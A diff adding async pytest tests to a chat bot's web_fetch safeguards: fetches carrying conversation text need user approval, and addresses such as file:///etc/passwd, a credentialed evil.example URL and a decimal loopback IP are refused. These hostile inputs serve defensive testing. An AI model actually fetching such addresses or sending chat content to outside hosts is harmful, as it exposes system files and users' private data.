@@ -5,6 +5,8 @@ import json
 from collections.abc import Mapping
 from typing import Any
 
+import pytest
+
 from bot.check import Verdict, findings
 from bot.config import Settings
 from bot.observability import metrics
@@ -174,6 +176,30 @@ async def test_a_page_that_wants_the_conversation_carried_away_gets_a_question_a
             await here.signal.react("👎", asked.timestamp)
             assert (await here.answer()).text == "I did not."
     assert "said no" in told(here)
+
+
+async def test_an_address_that_is_asked_about_is_shown_as_being_used_only_after_the_yes() -> None:
+    made_up = ("web_fetch", {"url": "https://no-such-host.invalid/?said=I+am+ill"})
+    steps = script(tool_calls(SEARCH), tool_calls(made_up), text("It is not there."))
+    async with world(steps) as here, brave_api() as brave:
+        async with running_bot(with_search(here, brave)):
+            await here.signal.say("Search for night trains")
+            assert (await here.signal.next_sent()).text == "🔧 Using web_search…"
+            asked = await here.signal.next_sent()
+            assert asked.text.startswith("❓")
+            await here.signal.react("👍", asked.timestamp)
+            assert (await here.signal.next_sent()).text == "🔧 Using web_search, web_fetch…"
+            assert (await here.answer()).text == "It is not there."
+
+
+@pytest.mark.parametrize("url", ["file:///etc/passwd", "http://ada:pw@evil.example/", "2130706433"])
+async def test_nobody_is_asked_about_an_address_that_cannot_be_opened_anyway(url: str) -> None:
+    steps = script(tool_calls(SEARCH), tool_calls(("web_fetch", {"url": url})), text("I cannot."))
+    async with world(steps) as here, brave_api() as brave:
+        async with running_bot(with_search(here, brave)):
+            await here.signal.say("Search for night trains")
+            assert (await here.answer()).text == "I cannot."
+    assert told(here).startswith(("An address", "The address"))
 
 
 async def test_a_page_on_the_own_network_is_not_read() -> None:
